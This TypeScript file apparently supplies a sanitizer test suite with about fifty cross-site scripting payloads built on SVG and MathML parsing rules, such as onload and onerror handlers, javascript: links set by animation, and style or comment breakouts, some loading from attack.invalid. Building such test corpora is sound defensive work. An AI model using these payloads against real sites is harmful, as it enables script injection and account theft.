import type { Attack } from './attack.ts'

/** SVG and MathML, which have parsing rules of their own, and elements that return to HTML. */
export const FOREIGN: readonly Attack[] = [
  { name: 'svg that loads', html: '<svg onload=pwned()>' },
  { name: 'svg that loads, slash', html: '<svg/onload=pwned()>' },
  { name: 'svg with script', html: '<svg><script>pwned()</script></svg>' },
  { name: 'svg with script and references', html: '<svg><script>&#112;wned()</script></svg>' },
  { name: 'svg with script in CDATA', html: '<svg><script><![CDATA[pwned()]]></script></svg>' },
  { name: 'svg with script that closes itself', html: '<svg><script href="data:text/javascript,pwned()"/></svg>' },
  { name: 'svg with script by xlink', html: '<svg><script xlink:href="https://attack.invalid/x.js"></script></svg>' },
  { name: 'svg in a svg', html: '<svg><svg onload=pwned()></svg></svg>' },
  { name: 'svg image that fails', html: '<svg><image href=x onerror=pwned()></svg>' },
  { name: 'svg link', html: '<svg><a xlink:href="javascript:pwned()"><text y=20>x</text></a></svg>' },
  { name: 'svg link with a plain target', html: '<svg><a href="javascript:pwned()"><circle r=99 /></a></svg>' },
  { name: 'svg use of data', html: '<svg><use href="data:image/svg+xml,<svg id=x onload=pwned()>#x"></use></svg>' },
  { name: 'svg use of another site', html: '<svg><use xlink:href="https://attack.invalid/x.svg#x"/></svg>' },
  {
    name: 'svg animates a target',
    html: '<svg><a><animate attributeName=href values=javascript:pwned() /><text>x</text></a></svg>',
  },
  {
    name: 'svg animates a list of targets',
    html: '<svg><a><animate attributeName=href values="#a;javascript:pwned()"/><text>x</text></a></svg>',
  },
  {
    name: 'svg animates by xlink',
    html: '<svg><a xlink:href=#><animate attributeName="xlink:href" to="javascript:pwned()"/>x</a></svg>',
  },
  {
    name: 'svg sets a target',
    html: '<svg><a><set attributeName=href to=javascript:pwned() /><text>x</text></a></svg>',
  },
  { name: 'svg animation begins', html: '<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>' },
  { name: 'svg animation of a handler', html: '<svg><set attributeName=onload to=pwned()></svg>' },
  { name: 'svg discard with a target', html: '<svg><discard onbegin=pwned()></svg>' },
  {
    name: 'svg foreignObject with HTML',
    html: '<svg><foreignObject><img src=x onerror=pwned()></foreignObject></svg>',
  },
  { name: 'svg desc with HTML', html: '<svg><desc><img src=x onerror=pwned()></desc></svg>' },
  { name: 'svg title with HTML', html: '<svg><title><img src=x onerror=pwned()></title></svg>' },
  { name: 'svg style with HTML', html: '<svg><style><img src=x onerror=pwned()></style></svg>' },
  {
    name: 'svg style with an attribute that closes it',
    html: '<svg></p><style><a id="</style><img src=x onerror=pwned()>">',
  },
  {
    name: 'svg style with a comment that closes it',
    html: '<svg><style><!--</style><img src=x onerror=pwned()>--></style></svg>',
  },
  { name: 'svg that an HTML tag ends', html: '<svg><p><style><g title="</style><img src=x onerror=pwned()>">' },
  {
    name: 'svg that a font ends',
    html: '<svg><font color=red><title><style></title><img src=x onerror=pwned()></style>',
  },
  { name: 'svg that a closing br ends', html: '<svg></br><style><a title="</style><img src=x onerror=pwned()>">' },
  { name: 'svg in a comment in a svg', html: '<svg><!--</svg><img src=x onerror=pwned()>--></svg>' },
  { name: 'svg CDATA that only foreign parts know', html: '<svg><![CDATA[</svg><img src=x onerror=pwned()>]]></svg>' },
  { name: 'svg noscript', html: '<svg><noscript><p title="</noscript><img src=x onerror=pwned()>"></svg>' },
  { name: 'svg textarea', html: '<svg><textarea><img title="</textarea><img src=x onerror=pwned()>"></svg>' },
  { name: 'svg xmp', html: '<svg><xmp><img title="</xmp><img src=x onerror=pwned()>"></svg>' },
  {
    name: 'svg handler element',
    html: '<svg xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event="load">pwned()</handler></svg>',
  },
  { name: 'svg by a prefix', html: '<svg:svg onload=pwned()><svg:script>pwned()</svg:script></svg:svg>' },
  {
    name: 'svg filter image',
    html: '<svg><filter><feImage href="https://attack.invalid/f"/></filter><image href="https://attack.invalid/i"/></svg>',
  },
  { name: 'svg never closed', html: '<svg><g><g><g onclick=pwned()><path' },
  { name: 'math link', html: '<math href="javascript:pwned()">x</math>' },
  { name: 'math link by xlink', html: '<math><mtext xlink:href="javascript:pwned()">x</mtext></math>' },
  {
    name: 'math action',
    html: '<math><maction actiontype="statusline#x" xlink:href="javascript:pwned()">x</maction></math>',
  },
  { name: 'math style', html: '<math><style><img src=x onerror=pwned()></style></math>' },
  {
    name: 'math mglyph and style',
    html: '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=pwned()>">',
  },
  {
    name: 'math malignmark and style',
    html: '<math><mtext><malignmark><style><a title="</style><img src=x onerror=pwned()>">',
  },
  {
    name: 'math in a form in a form',
    html: '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned()>',
  },
  {
    name: 'math annotation of HTML',
    html: '<math><annotation-xml encoding="text/html"><img src=x onerror=pwned()></annotation-xml></math>',
  },
  {
    name: 'math annotation of XHTML with style',
    html: '<math><annotation-xml encoding="application/xhtml+xml"><style><img title="</style><img src=x onerror=pwned()>"></annotation-xml></math>',
  },
  {
    name: 'math annotation of SVG',
    html: '<math><annotation-xml><svg><foreignObject><img src=x onerror=pwned()></foreignObject></svg></annotation-xml></math>',
  },
  {
    name: 'math with a heading',
    html: '<math><mi><h1><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=pwned()>">',
  },
  {
    name: 'math with a title in a svg',
    html: '<math><mtext><svg><title><style><img title="</style></title><img src=x onerror=pwned()>">',
  },
  {
    name: 'math XML island',
    html: '<math><annotation-xml><xmp></annotation-xml><img src=x onerror=pwned()></xmp></math>',
  },
  {
    name: 'math with a list that ends it',
    html: '<math><ul><li><mglyph><style><img title="</style><img src=x onerror=pwned()>">',
  },
  { name: 'math with an option', html: '<select><math><option><style></select><img src=x onerror=pwned()></style>' },
]
